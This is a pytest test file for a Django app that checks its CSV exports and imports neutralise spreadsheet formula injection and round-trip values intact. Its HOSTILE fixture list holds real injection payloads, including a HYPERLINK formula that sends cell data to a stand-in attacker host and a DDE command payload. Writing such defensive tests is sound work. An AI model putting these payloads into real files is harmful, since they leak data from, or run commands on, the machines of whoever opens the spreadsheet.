"""CSV formula injection: every CSV the app writes neutralises formula cells (OWASP), and the
import of such a file gives back the values that were exported."""

from __future__ import annotations

import csv
import io

import pytest
from django.core.management import call_command
from django.test import Client
from hypothesis import given
from hypothesis import strategies as st

from bigin_ui.csv_safety import TRIGGERS, neutralise, neutralise_row, restore, restore_row
from bigin_ui.queue.models import Row
from tests.factories import store_contacts_metadata

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-1+1",
           "@SUM(1+1)", "\t=1+1", "\r=1+1", "=1+1"]


def runs_as_formula(cell: str) -> bool:
    return cell.startswith(TRIGGERS)


# -- the pair ------------------------------------------------------------------------------


@pytest.mark.parametrize("value", HOSTILE)
def test_formula_cells_get_a_quote(value):
    assert neutralise(value) == "'" + value


@pytest.mark.parametrize("value", ["Doe", "", "row:5", "5550000000000001", "a=b", " =x",
                                   "O'Brien", "'quoted'"])
def test_other_cells_are_unchanged(value):
    assert neutralise(value) == value
    assert restore(value) == value


def test_a_value_that_already_looks_quoted_survives_the_round_trip():
    assert neutralise("'=1+1") == "''=1+1"
    assert restore("''=1+1") == "'=1+1"


@given(st.text())
def test_restore_undoes_neutralise_for_every_text(value):
    assert restore(neutralise(value)) == value
    assert not runs_as_formula(neutralise(value))


def test_rows_leave_non_text_alone():
    assert neutralise_row(["=1", 5, None, -3]) == ["'=1", 5, None, -3]
    assert restore_row(["'=1", 5, None]) == ["=1", 5, None]


# -- the exports -----------------------------------------------------------------------------


@pytest.fixture
def hostile_rows(db, admin_user):
    store_contacts_metadata()
    rows = []
    for value in HOSTILE:
        rows.append(Row.objects.create(
            module="Contacts", owner=admin_user, status=Row.Status.FAILED,
            payload={"Last_Name": value, "Mobile": "+49 30 1234", "Title": value},
            error_code="INVALID_DATA", error_message=value, error_field="Title"))
    return rows


def cells_of(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))


def assert_no_formula(table: list[list[str]]) -> None:
    for line in table:
        for cell in line:
            assert not runs_as_formula(cell), (cell, line)


def test_review_export_neutralises_every_cell(hostile_rows, admin_client):
    response = admin_client.get("/review/export.csv")
    table = cells_of(b"".join(response.streaming_content).decode())
    assert len(table) == len(HOSTILE) + 1
    assert_no_formula(table)
    header = table[0]
    shown = {line[header.index("Last_Name")] for line in table[1:]}
    assert shown == {"'" + v for v in HOSTILE}
    assert {line[header.index("error_message")] for line in table[1:]} == shown


def test_bigin_export_neutralises_every_cell(hostile_rows, tmp_path):
    out = tmp_path / "rows.csv"
    call_command("bigin_export", str(out))
    table = cells_of(out.read_text(encoding="utf-8"))
    assert len(table) == len(HOSTILE) + 1
    assert_no_formula(table)


# -- the round trip ----------------------------------------------------------------------------


def test_an_exported_file_imports_to_the_original_values(db, admin_user, tmp_path):
    store_contacts_metadata()
    originals = {"Last_Name": "=1+1", "Title": "@SUM(1+1)", "Mobile": "+49 30 1234",
                 "Description": "-1+1 is zero", "Mailing_City": "=HYPERLINK(\"x\")"}
    Row.objects.create(module="Contacts", owner=admin_user, payload=originals)
    out = tmp_path / "rows.csv"
    call_command("bigin_export", str(out))
    assert "'=1+1" in out.read_text()
    Row.objects.all().delete()
    call_command("bigin_import", "--module", "Contacts", "--user", admin_user.username,
                 str(out))
    imported = Row.objects.get().payload
    assert {k: imported[k] for k in originals} == originals


def test_a_leading_tab_is_trimmed_on_entry_and_never_makes_a_formula(db, admin_user, tmp_path):
    """Decision: entry trims surrounding whitespace, tabs included (web form and import
    alike), so ``\\t=1+1`` is stored as ``=1+1``: Bigin stores text and never evaluates it, so
    the meaning there is unchanged. What the tab protected in a spreadsheet, the export's quote
    protects now. A value stored with a leading tab by other means is exported quoted and
    read back exactly by the reader."""
    store_contacts_metadata()
    Row.objects.create(module="Contacts", owner=admin_user,
                       payload={"Last_Name": "\t=1+1", "Title": "=1+1"})
    out = tmp_path / "rows.csv"
    call_command("bigin_export", str(out))
    table = cells_of(out.read_text())
    header = table[0]
    assert table[1][header.index("Last_Name")] == "'\t=1+1"
    assert restore_row(table[1])[header.index("Last_Name")] == "\t=1+1"
    Row.objects.all().delete()
    call_command("bigin_import", "--module", "Contacts", "--user", admin_user.username,
                 str(out))
    payload = Row.objects.get().payload
    assert (payload["Last_Name"], payload["Title"]) == ("=1+1", "=1+1")


def test_the_rejected_lines_file_is_neutralised(db, admin_user, tmp_path):
    store_contacts_metadata()
    source = tmp_path / "people.csv"
    source.write_text('Last_Name,Email\n"=HYPERLINK(""http://x"")",not-an-email\n',
                      encoding="utf-8")
    errors = tmp_path / "rejected.csv"
    with pytest.raises(SystemExit):
        call_command("bigin_import", "--module", "Contacts", "--user", admin_user.username,
                     "--errors", str(errors), str(source))
    table = cells_of(errors.read_text(encoding="utf-8"))
    assert table[1][0] == "'=HYPERLINK(\"http://x\")"
    assert_no_formula(table)


def test_the_rejected_lines_download_is_neutralised(db, admin_user, tmp_path):
    from bigin_ui.imports.models import Import

    store_contacts_metadata()
    source = tmp_path / "people.csv"
    source.write_text("Last_Name,Email\n@SUM(1+1),not-an-email\n", encoding="utf-8")
    with pytest.raises(SystemExit):
        call_command("bigin_import", "--module", "Contacts", "--user", admin_user.username,
                     str(source))
    imp = Import.objects.get()
    client = Client()
    client.force_login(admin_user)
    response = client.get(f"/imports/{imp.pk}/rejected.csv")
    assert response.status_code == 200, response
    table = cells_of(b"".join(response.streaming_content).decode())
    assert table[1][0] == "'@SUM(1+1)"
    assert_no_formula(table)
